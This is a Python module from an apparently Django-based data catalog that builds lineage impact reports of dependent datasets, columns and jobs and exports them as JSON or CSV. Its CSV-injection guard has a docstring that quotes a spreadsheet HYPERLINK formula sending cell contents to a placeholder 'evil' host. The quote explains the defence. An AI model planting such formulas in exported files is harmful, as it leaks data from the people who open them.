"""The impact report: everything downstream (or upstream) of a dataset or one of its columns.

One list of items (datasets, columns, jobs), each with its depth, the kind of the best path
that reaches it (``current``: every hop observed and still produced by its job's latest
completed run; ``declared``: some hop only declared by a JobEvent, none stale; ``stale``:
some hop observed but no longer produced), when that path's last hop was last seen, the
last run state of each job, and its owners and tags as the catalog's details show them
(the projections of ADR 0083: the producer's and a steward's, hidden ones left out; ADR 0081).

It reuses the graph's pieces, bounded as they are: the dataset walk
(``catalog.lineage.graph.walk``: one recursive query, a row cap), the job edges beside it
and their currency (``catalog.lineage.currency``), declared lineage
(``catalog.lineage.design_time``), and, from a column, the column-lineage walk's level step
(``catalog.lineage.column_lineage.step``). The walk goes on through items the filters
(namespace, path kind) leave out; a report holds at most ``max_items`` items and its
``cut`` says what the bounds left out.
"""

import csv
import dataclasses
from collections import defaultdict
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from datetime import datetime
from typing import Any, Literal

import orjson
from django.db import connection

from catalog.lineage import column_lineage, currency, depth_probe, design_time, graph
from catalog.lineage.request import (
    CUT_LIST_LIMIT,
    EDGES_PER_NODE,
    GraphRequest,
    NodeRef,
    UnknownNode,
)
from catalog.models import Dataset, DatasetField, Job
from core.sql_arrays import bigint_array

Path = Literal["current", "declared", "stale"]
# Weakest first: a path is as trustworthy as its weakest hop.
PATHS: tuple[Path, ...] = ("stale", "declared", "current")
_RANK = {path: rank for rank, path in enumerate(PATHS)}  # a dict: _reach runs per hop
CURRENCIES = ("any", *PATHS)
DEFAULT_DEPTH = 5
DEFAULT_MAX_ITEMS = 1_000
MAX_ITEMS = 10_000
# The keys of an owner and a tag as /api/v1's details show them (api/label_serializers.py).
OWNER_KEYS = ("name", "type", "source")
TAG_KEYS = ("key", "value", "field", "source", "origin")
CSV_COLUMNS = (
    "type",
    "id",
    "namespace",
    "name",
    "field",
    "depth",
    "path",
    "last_seen",
    "last_run_state",
    "via_jobs",
    "owners",
    "tags",
)


class UnknownField(LookupError):
    """The dataset has no such column (neither in its schema nor in its column lineage)."""


@dataclass
class ImpactRequest:
    dataset_id: int
    field: str | None = None
    upstream: bool = False
    depth: int = DEFAULT_DEPTH
    max_items: int = DEFAULT_MAX_ITEMS
    namespace: str | None = None
    currency: str = "any"
    lineage: str = "all"  # observed, static or all, as the graph's ``lineage``


# Slots: ten thousand of them are made and read field by field.
@dataclass(slots=True)
class Item:
    type: Literal["dataset", "column", "job"]
    node: int  # dataset or job id
    depth: int
    path: Path | None  # None: the hop's job edges were past the read's cap (see ``cut``)
    last_seen: datetime | None
    field: str = ""
    via_jobs: set[int] = dataclasses.field(default_factory=set)
    namespace: str = ""
    name: str = ""
    last_run_state: str | None = None
    owners: list[dict[str, str]] = dataclasses.field(default_factory=list)
    tags: list[dict[str, str]] = dataclasses.field(default_factory=list)

    @property
    def id(self) -> str:
        kind = "job" if self.type == "job" else "dataset"
        return f"{kind}:{self.node}"

    def native(self) -> dict[str, Any]:
        """The API's shape (api/views/impact.py's ImpactItemSerializer, key for key)."""
        return {
            "type": self.type,
            "id": self.id,
            "namespace": self.namespace,
            "name": self.name,
            "field": self.field,
            "depth": self.depth,
            "path": self.path,
            "last_seen": self.last_seen,
            "last_run_state": self.last_run_state,
            "via_jobs": [f"job:{job}" for job in sorted(self.via_jobs)],
            "owners": self.owners,
            "tags": self.tags,
        }

    def csv_row(self) -> list[str]:
        return [spreadsheet_text(cell) for cell in self._csv_cells()]

    def _csv_cells(self) -> list[str]:
        return [
            self.type,
            self.id,
            self.namespace,
            self.name,
            self.field,
            str(self.depth),
            self.path or "",
            self.last_seen.isoformat() if self.last_seen else "",
            self.last_run_state or "",
            " ".join(f"job:{job}" for job in sorted(self.via_jobs)),
            " ".join(owner["name"] for owner in self.owners),
            " ".join(self.tag_labels),
        ]

    @property
    def tag_labels(self) -> list[str]:
        """The tags as ``key`` or ``key=value`` (the CSV's and the admin's text)."""
        return [
            tag["key"] if not tag["value"] else f"{tag['key']}={tag['value']}" for tag in self.tags
        ]


@dataclass
class Report:
    root: str
    field: str
    direction: str
    items: list[Item]
    cut: dict[str, Any]


def _weaker(a: Path | None, b: Path | None) -> Path | None:
    if a is None or b is None:
        return None
    return a if _RANK[a] <= _RANK[b] else b


def _better(a: Path | None, b: Path | None) -> bool:
    """Whether path kind ``a`` beats ``b`` (None, unknown, beats nothing)."""
    return a is not None and (b is None or _RANK[a] > _RANK[b])


def _reach(item: Item, path: Path | None, seen: datetime | None, job: int | None) -> None:
    """Fold one more hop reaching ``item`` at its depth: the best path kind wins, with its
    hop's last seen; every job on such a hop is named."""
    if job is not None:
        item.via_jobs.add(job)
    if _better(path, item.path) or (path == item.path and _later(seen, item.last_seen)):
        item.path, item.last_seen = path, seen


def _later(a: datetime | None, b: datetime | None) -> bool:
    return a is not None and (b is None or a > b)


# --- from a dataset: the dataset walk and the job edges around what it found ----------

Link = tuple[int, int, str, Path, datetime | None]  # (job, dataset, direction, kind, seen)

_LINKS = """
SELECT je.id, je.job_id, je.dataset_id, je.direction, je.last_seen FROM catalog_job_edge je
WHERE je.dataset_id = ANY(%(ids)s::bigint[]) ORDER BY je.dataset_id, je.direction, je.job_id
LIMIT %(limit)s
"""


def _links(dataset_ids: list[int], request: ImpactRequest, limit: int) -> tuple[list[Link], bool]:
    """Every job edge of ``dataset_ids``, observed (current or stale) and declared-only,
    capped at ``limit`` of each; True when a cap was reached."""
    links: list[Link] = []
    capped = False
    observed_keys: set[tuple[int, int, str]] = set()
    if request.lineage != "static":
        with connection.cursor() as cursor:
            cursor.execute(_LINKS, {"ids": bigint_array(dataset_ids), "limit": limit})
            rows = cursor.fetchall()
        capped = len(rows) >= limit
        current = currency.current_job_edges({row[0]: row[1] for row in rows})
        for edge_id, job_id, dataset_id, direction, seen in rows:
            kind: Path = "current" if edge_id in current else "stale"
            links.append((job_id, dataset_id, direction, kind, seen))
            observed_keys.add((job_id, dataset_id, direction))
    if request.lineage != "observed":
        declared_links = design_time.job_links(dataset_ids, None, limit)
        capped = capped or len(declared_links) >= limit
        keys = {(row[2], row[1], row[0]) for row in declared_links}
        declared = design_time.declared(keys - {(k[2], k[1], k[0]) for k in observed_keys}, None)
        for (direction, dataset_id, job_id), (declared_at, _via) in sorted(declared.items()):
            links.append((job_id, dataset_id, direction, "declared", declared_at))
    return links, capped


def _from_dataset(request: ImpactRequest) -> tuple[list[Item], dict[str, Any]]:
    walk_request = GraphRequest(
        root=NodeRef("dataset", request.dataset_id),
        direction="upstream" if request.upstream else "downstream",
        depth=request.depth,
        max_nodes=request.max_items,
        lineage=request.lineage,  # type: ignore[arg-type]
    )
    depths, row_cap_hit = graph.walk([request.dataset_id], 0, request.upstream, walk_request)
    depths[request.dataset_id] = 0
    ordered = sorted(depths, key=lambda dataset_id: (depths[dataset_id], dataset_id))
    kept = ordered[: request.max_items + 1]
    cut: dict[str, Any] = {}
    if len(ordered) > len(kept) or row_cap_hit:
        cut["max_items"] = {
            "limit": request.max_items,
            "omitted_datasets": len(ordered) - len(kept),
            "omitted_is_lower_bound": row_cap_hit,
        }
    edge_limit = EDGES_PER_NODE * len(kept)
    links, capped = _links(kept, request, edge_limit)
    if capped:
        cut["edges"] = {"limit": edge_limit}
    # Downstream a hop is dataset → reading job → written dataset; upstream the reverse.
    into_job = "output" if request.upstream else "input"
    readers: dict[int, list[Link]] = defaultdict(list)  # by the dataset the job reads
    writes: dict[int, list[Link]] = defaultdict(list)  # by the job
    for link in links:
        if link[2] == into_job:
            readers[link[1]].append(link)
        else:
            writes[link[0]].append(link)
    datasets = {
        dataset_id: Item("dataset", dataset_id, depths[dataset_id], None, None)
        for dataset_id in kept
    }
    root = datasets.pop(request.dataset_id)
    root.path = "current"
    jobs: dict[int, Item] = {}
    # Level by level (shortest paths): the jobs that read a dataset at depth d are at d+1,
    # and so are the datasets they write that the walk found at d+1.
    level = [root]
    for depth in range(request.depth):
        level_jobs: dict[int, Item] = {}
        for source in level:
            for job_id, _dataset, _direction, kind, seen in readers[source.node]:
                job = jobs.get(job_id) or jobs.setdefault(
                    job_id, Item("job", job_id, depth + 1, None, None)
                )
                if job.depth == depth + 1:
                    level_jobs[job_id] = job
                    _reach(job, _weaker(source.path, kind), seen, None)
        following: dict[int, Item] = {}
        for job in level_jobs.values():
            for _job, dataset_id, _direction, kind, seen in writes[job.node]:
                target = datasets.get(dataset_id)
                if target is not None and target.depth == depth + 1:
                    following[dataset_id] = target
                    _reach(target, _weaker(job.path, kind), seen, job.node)
        level = list(following.values())
    items = [*datasets.values(), *jobs.values()]
    at_bound = [d for d in kept if depths[d] >= request.depth]
    beyond = depth_probe.has_more(at_bound, request.upstream, walk_request, set(jobs))
    if beyond:
        cut["depth"] = {
            "limit": request.depth,
            "nodes_with_more": [f"dataset:{d}" for d in sorted(beyond)[:CUT_LIST_LIMIT]],
        }
    return items, cut


# --- from a column: the column-lineage walk, level by level ---------------------------


def _from_field(request: ImpactRequest) -> tuple[list[Item], dict[str, Any]]:
    """Columns reached through column edges, each level one query; the datasets holding
    them and the jobs on the edges are items too. Observed column lineage only: a
    declaration's column edges have no field walk yet (ADR 0081)."""
    assert request.field is not None
    columns: dict[tuple[int, str], Item] = {}
    start = (request.dataset_id, request.field)
    frontier: dict[tuple[int, str], Item] = {
        start: Item("column", request.dataset_id, 0, "current", None, field=request.field)
    }
    jobs: dict[int, Item] = {}
    cut: dict[str, Any] = {}
    seen_fields = {start}
    for depth in range(request.depth):
        if not frontier or request.lineage == "static":
            break
        edges = column_lineage.step(set(frontier), request.upstream, request.max_items * 4)
        current = currency.current_column_edges({edge.id: edge.job_id for edge in edges})
        following: dict[tuple[int, str], Item] = {}
        for edge in edges:
            here, there = (
                ((edge.target_id, edge.target_field), (edge.source_id, edge.source_field))
                if request.upstream
                else ((edge.source_id, edge.source_field), (edge.target_id, edge.target_field))
            )
            source = frontier.get(here)
            if source is None:
                continue
            kind = _weaker(source.path, "current" if edge.id in current else "stale")
            job = jobs.setdefault(edge.job_id, Item("job", edge.job_id, depth + 1, None, None))
            if job.depth == depth + 1:
                _reach(job, kind, edge.last_seen, None)
            if there in seen_fields and there not in following:
                continue
            if there not in following:
                if len(seen_fields) > request.max_items:
                    cut["max_items"] = {"limit": request.max_items, "omitted_is_lower_bound": True}
                    continue
                seen_fields.add(there)
                following[there] = Item("column", there[0], depth + 1, None, None, field=there[1])
            _reach(following[there], kind, edge.last_seen, edge.job_id)
        columns.update(following)
        frontier = following
    if frontier and request.depth and "max_items" not in cut:
        beyond = column_lineage.step(set(frontier), request.upstream, 1)
        if beyond:
            cut["depth"] = {"limit": request.depth}
    datasets: dict[int, Item] = {}
    for column in columns.values():
        holder = datasets.setdefault(
            column.node, Item("dataset", column.node, column.depth, None, None)
        )
        if column.depth < holder.depth:
            holder.depth, holder.path, holder.last_seen = column.depth, None, None
        if column.depth == holder.depth:
            _reach(holder, column.path, column.last_seen, None)
            holder.via_jobs |= column.via_jobs
    datasets.pop(request.dataset_id, None)
    return [*columns.values(), *datasets.values(), *jobs.values()], cut


# --- the report ------------------------------------------------------------------------


def _owners(owners: Any) -> list[dict[str, str]]:
    """The visible owners of a row's projection (ADR 0083) as the details show them:
    name, type, source (a steward's hidden producer owner is kept, not shown)."""
    listed = owners if isinstance(owners, list) else []
    return [
        {key: entry.get(key, "") for key in OWNER_KEYS}
        for entry in listed
        if isinstance(entry, dict) and not entry.get("hidden")
    ]


def _tags(tags: Any, column: str) -> list[dict[str, str]]:
    """The visible tags of a row's projection as the details show them, of the item: a
    column, those of its field; a dataset or job, its own (no field)."""
    listed = tags if isinstance(tags, list) else []
    return [
        {key: entry.get(key, "") for key in TAG_KEYS}
        for entry in listed
        if isinstance(entry, dict)
        and not entry.get("hidden")
        and (entry.get("field") or "") == column
    ]


# The projections only (owners and tags, ADR 0083), not the whole facets document.
_DATASETS = """
SELECT d.id, d.namespace, d.name, d.owners::text, d.tags::text
FROM catalog_dataset d WHERE d.id = ANY(%(ids)s::bigint[])
"""


def _json(text: str | bytes | None) -> Any:
    return None if text is None else orjson.loads(text)


def _describe(items: list[Item]) -> None:
    """Names, owners and tags of the items, and each job's last run state: two queries.
    Owners and tags are the rows' projections (ADR 0083), the producer's and the steward's,
    stored redacted and bounded by derivation, as /api/v1's details show them. Items with
    the same owners and tags text share one parsed pair of lists (10,000 datasets name a
    few dozen owners): read them, never change them."""
    dataset_ids = sorted({item.node for item in items if item.type != "job"})
    job_ids = {item.node for item in items if item.type == "job"}
    rows: dict[tuple[str, int], tuple[Any, ...]] = {}
    with connection.cursor() as cursor:
        cursor.execute(_DATASETS, {"ids": bigint_array(dataset_ids)})
        for dataset_id, namespace, name, owners, tags in cursor.fetchall():
            rows[("dataset", dataset_id)] = (namespace, name, owners, tags, None)
    jobs = (
        Job.objects.filter(id__in=job_ids)
        .with_latest_run_state()
        .order_by()
        .values_list("id", "namespace", "name", "owners", "tags", "latest_run_state")
    )
    for job_id, namespace, name, owners, tags, state in jobs:
        # As text, like the datasets' lists: the key of the parsed pair below.
        rows[("job", job_id)] = (namespace, name, orjson.dumps(owners), orjson.dumps(tags), state)
    parsed: dict[tuple[Any, ...], tuple[list[dict[str, str]], list[dict[str, str]]]] = {}
    for item in items:
        found = rows.get(("job" if item.type == "job" else "dataset", item.node))
        if found is None:
            continue
        item.namespace, item.name, item.last_run_state = found[0], found[1], found[4]
        key = (found[2], found[3], item.field, item.type == "column")
        if key not in parsed:
            owners = [] if item.type == "column" else _owners(_json(found[2]))
            parsed[key] = (owners, _tags(_json(found[3]), item.field))
        item.owners, item.tags = parsed[key]


def report(request: ImpactRequest) -> Report:
    """The impact report of ``request``; UnknownNode when the dataset does not exist,
    UnknownField when it has no such column."""
    if not Dataset.objects.filter(id=request.dataset_id).exists():
        raise UnknownNode(f"dataset:{request.dataset_id}")
    if request.field is not None:
        _check_field(request.dataset_id, request.field)
        items, cut = _from_field(request)
    else:
        items, cut = _from_dataset(request)
    _describe(items)
    wanted = [
        item
        for item in items
        if (request.namespace is None or item.namespace == request.namespace)
        and (request.currency == "any" or item.path == request.currency)
    ]
    order = {"column": 0, "dataset": 1, "job": 2}
    wanted.sort(
        key=lambda item: (
            item.depth,
            order[item.type],
            item.namespace,
            item.name,
            item.field,
            item.node,
        )
    )
    if len(wanted) > request.max_items:
        cut.setdefault("max_items", {"limit": request.max_items})
        cut["max_items"]["omitted_items"] = len(wanted) - request.max_items
        wanted = wanted[: request.max_items]
    return Report(
        root=f"dataset:{request.dataset_id}",
        field=request.field or "",
        direction="upstream" if request.upstream else "downstream",
        items=wanted,
        cut=cut,
    )


def _check_field(dataset_id: int, name: str) -> None:
    if DatasetField.objects.filter(dataset_id=dataset_id, name=name).exists():
        return
    if name in {known for _, known in column_lineage.dataset_fields(dataset_id, MAX_ITEMS)}:
        return
    raise UnknownField(name)


# What a spreadsheet reads as the start of a formula (OWASP's CSV injection list).
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(cell: str) -> str:
    """``cell`` with an apostrophe before it when a spreadsheet would run it as a formula.

    Why (ADR 0155): names, owners and tags are a producer's text, and a steward opens the
    download in a spreadsheet; ``=HYPERLINK("https://evil/?"&A1, "orders")`` as a dataset
    name would be a working link (or worse) there. The apostrophe is the spreadsheets' own
    "this is text" mark: it is not shown, the cell reads as the name. A program reading the
    CSV sees it, so the JSON answer stays the text as derived.
    """
    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell


class _Echo:
    """csv.writer's file: each row is handed back, not kept (Django's streaming CSV recipe)."""

    def write(self, value: str) -> str:
        return value


# Rows handed to the server together: one write per row costs the web server a chunk each.
CSV_ROWS_PER_CHUNK = 500


def csv_chunks(report: Report) -> Iterator[str]:
    """The report as CSV text, header first then the report's order, a few hundred rows at
    a time, for a StreamingHttpResponse: the API's and the admin's download."""
    writer = csv.writer(_Echo())
    chunk = [writer.writerow(CSV_COLUMNS)]
    for item in report.items:
        chunk.append(writer.writerow(item.csv_row()))
        if len(chunk) >= CSV_ROWS_PER_CHUNK:
            yield "".join(chunk)
            chunk = []
    yield "".join(chunk)


def native(report: Report) -> dict[str, Any]:
    return {
        "root": report.root,
        "field": report.field,
        "direction": report.direction,
        "items": [item.native() for item in report.items],
        "truncated": bool(report.cut),
        "cut": report.cut,
    }


def counts(items: Iterable[Item]) -> dict[str, int]:
    """How many items of each type (the admin's summary)."""
    answer: dict[str, int] = defaultdict(int)
    for item in items:
        answer[item.type] += 1
    return dict(answer)
